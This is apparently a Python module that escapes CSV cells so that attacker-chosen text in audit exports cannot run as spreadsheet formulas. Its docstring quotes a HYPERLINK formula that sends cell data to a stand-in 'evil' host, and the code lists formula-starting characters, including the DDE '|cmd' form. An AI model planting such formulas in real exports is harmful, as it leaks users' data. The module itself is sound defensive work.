"""CSV for spreadsheets: the one escaping function for cells that a person opens in Excel,
LibreOffice or Google Sheets.

Audit exports carry text an attacker chose (a username typed at a failed login, an agent
id in a URL). A cell such as `=HYPERLINK("http://evil/?"&A1,"click")` is a live formula
once the export is opened. A cell that would start a formula gets a leading `'`, which
spreadsheets read as "this is text" and do not display.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

# Formula starters (OWASP "CSV injection" list plus `|`, the DDE form `|cmd`, and the
# full-width forms, which some spreadsheet versions fold to ASCII on import).
FORMULA = frozenset("=+-@|＝＋－＠｜")
# Characters that a spreadsheet may drop at the start of a cell, exposing what follows.
LEADING = frozenset("\t\r\n")


def cell(value: str) -> str:
    """`value` as a spreadsheet cell that cannot be a formula."""
    if not value:
        return value
    # Leading spaces (and tabs, CR, other Unicode spaces) are trimmed by some importers,
    # so look at the first character that survives trimming as well as at the very first.
    stripped = value.lstrip()
    if value[0] in LEADING or (stripped and stripped[0] in FORMULA):
        return "'" + value
    return value


def write(header: Sequence[str], rows: Iterable[Sequence[str]]) -> str:
    """A whole CSV document, every cell (header included) through `cell`."""
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow([cell(h) for h in header])
    for row in rows:
        writer.writerow([cell(v) for v in row])
    return out.getvalue()
